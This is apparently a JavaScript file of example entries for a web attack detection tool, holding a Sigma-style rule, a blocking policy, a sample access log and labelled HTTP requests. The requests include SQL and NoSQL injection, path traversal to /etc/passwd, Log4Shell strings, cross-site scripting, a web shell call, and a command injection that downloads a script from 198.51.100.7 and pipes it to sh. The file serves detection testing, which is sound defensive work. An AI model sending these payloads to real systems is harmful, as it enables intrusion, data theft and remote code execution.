// What the menu offers, the first one at the start. Each puts in all that it has and empties the rest.

const BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36";
const lines = (...all) => all.join("\n") + "\n";
const get = (target, ...headers) => lines(`GET ${target} HTTP/1.1`, "Host: shop.example", ...(headers.some((header) => /^user-agent/i.test(header)) ? [] : [`User-Agent: ${BROWSER}`]), "Accept: */*", ...headers);

const OWN_RULE = String.raw`title: Export of all customers
id: 0d9a6a54-6c0f-4b0e-8b0e-2f1d8f3f7c11
status: experimental
description: Somebody asks our shop for every customer at once
logsource:
  category: webserver
detection:
  export:
    cs-uri-stem|endswith: /customers/export
  everything:
    cs-uri-query.limit|gte: 1000
  condition: export and everything
level: medium
portcullis:
  tests:
    catches:
      - GET /api/customers/export?limit=5000
      - GET /api/v2/customers/export?format=csv&limit=100000
    ignores:
      - GET /api/customers/export?limit=20
      - GET /api/customers?limit=5000
`;

const EXAMPLES = [
  {name: "SQL injection, encoded", request: get("/product?id=1%2527%2520UNION%2520SELECT%2520name,password%2520FROM%2520users--%2520-&page=2")},
  {name: "Path traversal, doubly encoded", request: get("/download?file=..%252f..%252f..%252fetc%252fpasswd")},
  {name: "Log4Shell in the User-Agent", request: get("/", "User-Agent: ${${lower:j}ndi:${lower:l}dap://198.51.100.7:1389/a}")},
  {name: "PHP in an upload folder", request: get("/wp-content/uploads/2026/11/avatar.php?cmd=id")},
  {name: "Nmap’s script engine", request: get("/HNAP1", "User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")},
  {name: "Ordinary browsing", request: get("/search?q=O%27Reilly+select+from+our+range+%26+union+jack+mugs", "Accept-Language: en-GB,en;q=0.8", "Referer: https://www.example.org/", "Cookie: session=6f1c0b7e; theme=dark")},
  {name: "Injected command", request: get("/ping?host=127.0.0.1%3Bcurl%20-s%20http%3A%2F%2F198.51.100.7%2Fx.sh%7Csh")},
  {name: "Script in a form", request: lines("POST /comments HTTP/1.1", "Host: shop.example", `User-Agent: ${BROWSER}`, "Content-Type: application/x-www-form-urlencoded", "", "author=Ann&text=Nice%21+%3Cimg+src%3Dx+onerror%3Dalert%28document.domain%29%3E").trimEnd()},
  {name: "Injection in a JSON body", request: lines("POST /api/login HTTP/1.1", "Host: shop.example", `User-Agent: ${BROWSER}`, "Content-Type: application/json", "", String.raw`{"user": "admin' OR 1=1-- -", "password": {"$ne": null}}`).trimEnd()},
  {name: "A policy that blocks", request: get("/product?id=1%27%20OR%20%271%27%3D%271", "Accept-Language: en"), policy: JSON.stringify({
    mode: "detect",
    exceptions: [{rules: ["Gateway_SqlInjection"], path_prefix: "/reports", parameter: "query"}],
    routes: [{match: {path_prefix: "/product"}, policy: {mode: "block", block: {min_severity: "Medium", min_confidence: 60}}}],
  }, null, 2) + "\n", tab: "policy"},
  {name: "A rule of your own", request: get("/api/customers/export?format=csv&limit=5000"), rule: OWN_RULE, tab: "rule"},
  {name: "An access log", capture: lines(
    `198.51.100.23 - - [23/Nov/2026:09:14:01 +0000] "GET / HTTP/1.1" 200 5120 "-" "${BROWSER}"`,
    `198.51.100.23 - - [23/Nov/2026:09:14:02 +0000] "GET /static/app.css HTTP/1.1" 200 913 "https://shop.example/" "${BROWSER}"`,
    `203.0.113.9 - - [23/Nov/2026:09:14:05 +0000] "GET /.git/config HTTP/1.1" 404 162 "-" "Mozilla/5.0"`,
    `203.0.113.9 - - [23/Nov/2026:09:14:06 +0000] "GET /wp-login.php HTTP/1.1" 404 162 "-" "Mozilla/5.0"`,
    `192.0.2.44 - - [23/Nov/2026:09:14:30 +0000] "GET /product?id=1%27%20UNION%20SELECT%201,2,version()--%20- HTTP/1.1" 200 743 "-" "sqlmap/1.9.11#stable (https://sqlmap.org)"`,
    `192.0.2.44 - - [23/Nov/2026:09:14:31 +0000] "GET /download?file=../../../../etc/passwd HTTP/1.1" 400 0 "-" "sqlmap/1.9.11#stable (https://sqlmap.org)"`,
    `198.51.100.80 - - [23/Nov/2026:09:15:12 +0000] "GET /search?q=union+jack+mugs HTTP/2" 200 2210 "https://shop.example/" "${BROWSER}"`,
    `203.0.113.77 - - [23/Nov/2026:09:15:40 +0000] "GET /uploads/2026/x.php?c=whoami HTTP/1.1" 200 12 "-" "curl/8.5.0"`,
    `203.0.113.77 - - [23/Nov/2026:09:15:44 +0000] "GET / HTTP/1.1" 200 5120 "-" "\${jndi:ldap://203.0.113.77/a}"`,
    `198.51.100.80 - - [23/Nov/2026:09:16:02 +0000] "POST /basket HTTP/2" 302 0 "https://shop.example/search" "${BROWSER}"`),
    tab: "capture"},
];
